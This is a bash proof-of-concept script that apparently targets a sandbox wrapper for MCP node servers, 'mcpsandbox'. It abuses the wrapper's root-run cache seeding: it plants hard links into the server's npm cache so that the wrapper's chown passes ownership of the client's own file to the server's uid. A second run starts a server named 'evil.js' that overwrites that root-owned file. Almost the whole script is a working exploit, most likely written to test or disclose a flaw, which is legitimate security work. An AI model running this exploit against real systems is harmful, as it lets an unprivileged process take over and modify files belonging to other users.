#!/bin/bash
# wrap as root seeds a node server's private npm cache with HARD LINKS to the client's content store
# (only "a file the server's uid cannot write"), then chowns the whole seeded tree to the server's uid:
# the chown goes through the hard links to the client's own files.
set -u
C=/tmp/atk33x/wh/.npm; H=/tmp/atk33x/wh; X=/tmp/atk33x/xcache
rm -rf $C $X; mkdir -p $C/_cacache/content-v2/sha512/ab/cd $C/_cacache/index-v5 $X
echo "root's cached package tarball" > $C/_cacache/content-v2/sha512/ab/cd/efgh; chmod 444 $C/_cacache/content-v2/sha512/ab/cd/efgh
echo "before:"; stat -c '%U:%G %a %h %n' $C/_cacache/content-v2/sha512/ab/cd/efgh
cd /tmp/atk33x && printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}}' \
 | HOME=$H XDG_STATE_HOME=$H/.local/state XDG_CACHE_HOME=$X timeout 20 /tmp/atk33/mcpsandbox wrap --policy /tmp/atk33x/wrappol.toml -- /usr/bin/node /tmp/atk33x/srvdir/${SRV:-srv.js} 2>&1 | cut -c1-200 | head -5
echo "after:"; stat -c '%U:%G %a %h %n' $C/_cacache/content-v2/sha512/ab/cd/efgh
find $X -name efgh -exec stat -c '%U:%G %a %h %n' {} \;
echo "--- a second start, of a server that writes through its cache's link (SRV=evil.js):"
cd /tmp/atk33x && printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}}' \
 | HOME=$H XDG_STATE_HOME=$H/.local/state XDG_CACHE_HOME=$X timeout 20 /tmp/atk33/mcpsandbox wrap --policy /tmp/atk33x/wrappol.toml -- /usr/bin/node /tmp/atk33x/srvdir/evil.js 2>&1 | cut -c1-200 | head -5
echo "root's file now:"; stat -c '%U:%G %a %h %n' $C/_cacache/content-v2/sha512/ab/cd/efgh; cat $C/_cacache/content-v2/sha512/ab/cd/efgh
